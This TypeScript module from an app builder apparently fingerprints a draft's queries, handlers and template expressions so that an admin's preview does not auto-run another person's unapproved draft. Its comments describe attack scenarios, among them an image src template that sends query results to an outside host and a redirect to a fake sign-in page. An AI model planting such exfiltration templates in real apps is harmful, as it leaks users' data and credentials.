// Whether the builder may run a draft's queries by itself. The preview runs queries as the
// person who has the builder open: their datasources, their `{{ user.* }}`, and an admin's
// access to `{{ secrets.* }}`. A draft someone else wrote must not do that the moment an
// admin opens it to review it (a run-on-load query that copies a secret into a table, or an
// onSuccess handler that sends the admin to a look-alike sign-in page). So the builder runs
// queries on its own only for what this user saved or agreed to run in this browser; for
// anything else it waits for a click. The record is per user and app, and names exactly the
// queries and event handlers agreed to: a change by someone else asks again.
import type { Component, EventHandler } from "../api/app-definition.gen";
import type { Definition } from "./edit";

const PREFIX = "lathe.trusted-draft";
// A record too large for the browser's storage is not kept: the builder asks again next time.
const MAX_RECORD = 256 * 1024;

/**
 * What decides what a draft does by itself with the data its queries return: its queries,
 * every event handler, the variables, and every `{{ }}` expression in a component's props
 * (an image whose `src` is `https://elsewhere/?d={{ queries.q.data }}` would send a
 * reviewer's results away). Layout and props without an expression (plain text, colours)
 * are left out, so moving a component or fixing a label doesn't ask again.
 */
export function runFingerprint(definition: Definition): string {
  const handlers: { id: string; events: EventHandler[] }[] = [];
  const expressions: { id: string; path: string; value: string }[] = [];
  const walk = (components: readonly Component[]) => {
    for (const c of components) {
      if (c.events?.length) handlers.push({ id: c.id, events: c.events });
      collectExpressions(c.props ?? {}, "", (path, value) => expressions.push({ id: c.id, path, value }));
      walk(c.children ?? []);
    }
  };
  for (const page of definition.pages) walk(page.components);
  return canonical({ queries: definition.queries ?? [], handlers, expressions, variables: definition.variables ?? {} });
}

/** Calls `found` for every string holding `{{` inside `value`, with its JSON path. */
function collectExpressions(value: unknown, path: string, found: (path: string, value: string) => void) {
  if (typeof value === "string") {
    if (value.includes("{{")) found(path, value);
  } else if (Array.isArray(value)) {
    value.forEach((item, i) => collectExpressions(item, `${path}/${i}`, found));
  } else if (value !== null && typeof value === "object") {
    for (const [k, v] of Object.entries(value as Record<string, unknown>)) collectExpressions(v, `${path}/${k}`, found);
  }
}

/** JSON with object keys sorted, so a store that reorders keys doesn't change the text. */
export function canonical(value: unknown): string {
  if (Array.isArray(value)) return `[${value.map(canonical).join(",")}]`;
  if (value !== null && typeof value === "object") {
    const entries = Object.entries(value as Record<string, unknown>)
      .filter(([, v]) => v !== undefined)
      .sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0));
    return `{${entries.map(([k, v]) => `${JSON.stringify(k)}:${canonical(v)}`).join(",")}}`;
  }
  return JSON.stringify(value) ?? "null";
}

type Storage = Pick<globalThis.Storage, "getItem" | "setItem">;

const key = (userId: string, appId: string) => `${PREFIX}.${userId}.${appId}`;

/** Whether `userId` saved or agreed to run exactly this draft's queries and handlers. */
export function isTrusted(storage: Storage | null, userId: string, appId: string, definition: Definition): boolean {
  try {
    return storage?.getItem(key(userId, appId)) === runFingerprint(definition);
  } catch {
    return false;
  }
}

/** Records that `userId` saved, or agreed to run, this draft. */
export function trust(storage: Storage | null, userId: string, appId: string, definition: Definition): void {
  const fingerprint = runFingerprint(definition);
  if (fingerprint.length > MAX_RECORD) return;
  try {
    storage?.setItem(key(userId, appId), fingerprint);
  } catch {
    // Storage full or disabled: the builder asks again next time, which is the safe side.
  }
}

/** The browser's storage, or null where it is unavailable (private modes, tests). */
export function browserStorage(): Storage | null {
  try {
    return typeof window === "undefined" ? null : window.localStorage;
  } catch {
    return null;
  }
}
